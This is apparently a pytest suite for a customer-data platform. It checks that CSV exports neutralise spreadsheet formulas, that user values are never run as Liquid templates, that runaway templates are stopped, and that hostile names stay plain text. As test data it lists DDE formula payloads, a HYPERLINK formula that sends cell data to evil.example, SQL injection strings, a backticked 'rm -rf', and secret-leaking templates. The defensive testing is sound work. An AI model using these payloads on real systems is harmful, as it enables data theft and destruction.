"""What people and their systems write is data: in files for spreadsheets, in templates, and in names that stand in statements and conditions."""
import csv
import io
import subprocess
import time

import pytest

from harness import BINARY, new_id, wait_until
from test_console_imports import finished, upload
from test_consent import ask, person, say

FORMULAS = ["=cmd|' /C calc'!A0", "+1+cmd", "-2+3+cmd", "@SUM(1)", "\t=1", "\r=1", "＝1", "=HYPERLINK(\"https://evil.example?\"&A1)"]
NAMES = ["'; DROP TABLE documents; --", "\" OR 1=1 --", "x') OR ('1'='1", "%' UNION SELECT 1,2,3 --", "\\'; --", "<b>&", "{{ 7 * 7 }}", "a\u2028b", "`rm -rf`", "; in last 5 days", "\u202egnp"]


def begins_no_formula(text):
    return not text or text[0] not in "=+-@\t\r＝＋－＠" or text.lstrip("-").replace(".", "", 1).isdigit()


# MARK: - Files for spreadsheets

@pytest.mark.parametrize("formula", FORMULAS)
def test_fault_85_records_in_a_list_of_clusters_are_no_formulas(tmp_path, formula):
    (tmp_path / "people.csv").write_text("")
    with open(tmp_path / "people.csv", "w", newline="") as file:
        csv.writer(file, quoting=csv.QUOTE_ALL).writerows([["id", "first", "last", "phone"], [formula, "Masha", "Kelley", "206 555 0143"], [formula + "2", "M.", "Kelley", "206 555 0143"], ["-17", "Bo", "Abernathy", ""]])
    subprocess.run([BINARY, "match", "people.csv", "--out", "clusters.csv", "--pairs", "pairs.csv"], check=True, capture_output=True, timeout=120, cwd=tmp_path)
    for name in ("clusters.csv", "pairs.csv"):
        rows = list(csv.reader(open(tmp_path / name, newline="")))
        assert all(begins_no_formula(cell) for row in rows for cell in row), rows
        assert len({len(row) for row in rows}) == 1
    assert rows[1][0].removeprefix("'").strip() in (formula.strip(), formula.strip() + "2")
    assert ["-17", "-17"] in list(csv.reader(open(tmp_path / "clusters.csv", newline=""))), "a number stays one"


def test_fault_85_rows_that_an_import_refuses_are_no_formulas(shop):
    lines = b"".join(b'{"type": "%s", "userId": "u"}\n' % formula.replace("\\", "").replace('"', "'").replace("\t", " ").replace("\r", " ").encode() for formula in FORMULAS)
    place = upload(shop.reader, lines + b"=1+1\n@x\n", "lines.ndjson").headers["Location"]
    shop.reader.post(place + "/start")
    finished(shop.reader, place)
    answer = shop.reader.get(place + "/rejected.csv")
    rows = list(csv.reader(io.StringIO(answer.text)))
    assert len(rows) == len(FORMULAS) + 3 and answer.headers["Content-Disposition"].startswith("attachment")
    assert all(begins_no_formula(cell) for row in rows for cell in row)


def test_fault_85_files_of_numbers_hold_numbers(shop):
    segment = ask(shop, "POST", "/segments", 201, json={"name": "=1+1", "condition": 'plan = "=1+1"'})
    wait_until(lambda: shop.call("GET", f"/api/v1/segments/{segment['id']}/trend?format=csv").status_code == 200, what="the history")
    for answer in (shop.call("GET", f"/api/v1/segments/{segment['id']}/trend?format=csv"), shop.reader.get(f"/w/main/segments/{segment['id']}/sizes.csv"), shop.reader.get("/w/main/charts/events-per-minute.csv")):
        assert answer.headers["Content-Type"].startswith("text/csv")
        rows = list(csv.reader(io.StringIO(answer.text)))[1:]
        assert all(row[1].isdigit() and begins_no_formula(row[0]) for row in rows), rows[:3]


def test_fault_85_every_route_that_answers_csv_is_known_here(shop):
    document = shop.http.get(shop.url + "/api/openapi.json").json()
    found = {path for path, methods in document["paths"].items() for method in methods.values() for answer in method.get("responses", {}).values() if "text/csv" in answer.get("content", {})}
    assert found == {"/api/v1/segments/{id}/trend"}, "a file that is new needs a test of its own above"


# MARK: - Templates

LIQUID = ["{{ profile.secret }}", "{% for i in (1..1000000000) %}x{% endfor %}", "{% include 'hidden' %}{% render 'hidden' %}", "{{ 'x' | " + " | ".join(["upcase"] * 500) + " }}", "{% assign x = profile %}{{ x }}", "{% raw %}", "{{"]


@pytest.mark.parametrize("value", LIQUID)
def test_fault_86_a_value_is_never_a_template(shop, value):
    user, _ = person(shop, firstName=value, secret="zanzibar")
    parts = {"subject": "Hi {{ profile.firstName }}", "html": "<p title=\"{{ profile.firstName }}\">{{ profile.firstName | append: '!' }}{% assign again = profile.firstName %}{{ again | upcase }}</p>"}
    began = time.monotonic()
    got = ask(shop, "POST", "/templates/preview", json={"template": {"kind": "email", "parts": parts}, "userId": user})
    assert time.monotonic() - began < 2 and "zanzibar" not in str(got)
    assert got["subject"] == "Hi " + " ".join(value.split()) or got["subject"].startswith("Hi " + value[:40])


@pytest.mark.parametrize("source", [
    "{% for i in (1..1000000000) %}x{% endfor %}", "{% for i in (1..100000) %}{% for j in (1..100000) %}{% endfor %}{% endfor %}", "{% assign x = 'x' %}{% for i in (1..60) %}{% assign x = x | append: x %}{% endfor %}{{ x }}",
    "{% for i in (1..9000) %}" + "{{ profile.firstName | replace: 'A', 'AAAAAAAAAAAAAAAA' }}" * 50 + "{% endfor %}", "{% assign a = 'x,' | split: ',' %}{% for i in (1..60) %}{% assign a = a | concat: a %}{% endfor %}{{ a | join }}",
])
def test_fault_86_what_never_ends_is_ended(shop, source):
    user, _ = person(shop)
    began = time.monotonic()
    answer = shop.call("POST", "/api/v1/templates/preview", json={"template": {"kind": "text", "parts": {"text": source}}, "userId": user})
    assert answer.status_code == 400 and answer.json()["code"] == "template.limit", answer.text[:300]
    assert time.monotonic() - began < 5


# MARK: - Names

@pytest.mark.parametrize("name", NAMES)
def test_fault_94_a_name_is_text_wherever_it_stands(shop, name):
    """Of segments, lists, journeys, templates, destinations and traits: kept as it was written or refused with a reason, and what it stands beside is as before."""
    before = ask(shop, "GET", "/overview")["profiles"]
    user = new_id("named")
    shop.send([{"type": "identify", "userId": user, "traits": {name: name, "plan": user}}, {"type": "track", "event": name, "userId": user, "properties": {name: 3}}])
    segment = shop.call("POST", "/api/v1/segments", json={"name": name, "condition": f'plan = "{user}"'})
    quoted = '"' + name.replace("\\", "\\\\").replace('"', '\\"') + '"'
    named = "`" + name.replace("\\", "\\\\").replace("`", "\\`") + "`"
    for condition in (f"{named} = {quoted}", f"did {quoted}", f"did {quoted} where {named} = 3"):
        counted = shop.call("POST", "/api/v1/segments/preview", json={"condition": condition})
        if counted.status_code == 200:
            assert counted.json()["count"] == 1, (condition, counted.text)
        else:
            assert counted.status_code == 400 and counted.json()["code"].startswith("segments."), (condition, counted.text)
    if segment.status_code == 201:
        id = segment.json()["id"]
        assert ask(shop, "GET", f"/segments/{id}")["name"] == name
        assert wait_until(lambda: ask(shop, "GET", f"/segments/{id}/members")["members"], what="the member")
        assert "<b>&" not in shop.reader.get(f"/w/main/segments/{id}").text
    else:
        assert segment.status_code == 400 and segment.json()["remedy"]
    for path, body in (("/lists", {"name": name}), ("/templates", {"name": name, "kind": "text", "parts": {"text": "x"}}), ("/computed-traits", {"name": name, "measure": "count of \"x\""})):
        answer = shop.call("POST", "/api/v1" + path, json=body)
        assert answer.status_code in (201, 400, 409), f"{path}: {answer.status_code} {answer.text[:300]}"
        if answer.status_code == 201:
            made = answer.json()
            assert made["name"] == name.strip() and shop.call("DELETE", f"/api/v1{path}/{made.get('id', made['name'])}").status_code in (200, 204)
    for path, parameters in (("/profiles", {"q": name}), ("/profiles", {"sort": name}), ("/events", {"event": name}), ("/messages", {"state": name}), ("/messages", {"channel": name}), ("/messages", {"originId": name}),
                             ("/messages", {"after": name}), ("/segments", {"sort": name}), ("/profiles/lookup", {"userId": name})):
        answer = shop.call("GET", "/api/v1" + path, params=parameters)
        assert answer.status_code in (200, 400, 404), f"{path} {parameters}: {answer.status_code} {answer.text[:300]}"
    assert ask(shop, "GET", "/overview")["profiles"] == before + 1 and shop.cli("doctor", "--json")["healthy"]


def test_fault_94_a_name_with_nul_is_refused_or_kept_whole(shop):
    for path, body in (("/segments", {"name": "a\u0000b", "condition": "plan = 1"}), ("/lists", {"name": "a\u0000b"}), ("/templates", {"name": "a\u0000b", "kind": "text", "parts": {"text": "x"}})):
        answer = shop.call("POST", "/api/v1" + path, json=body)
        assert answer.status_code in (201, 400), answer.text
        if answer.status_code == 201:
            assert answer.json()["name"] == "a\u0000b"
    assert shop.call("GET", "/api/v1/segments/a%00b").status_code in (200, 404)
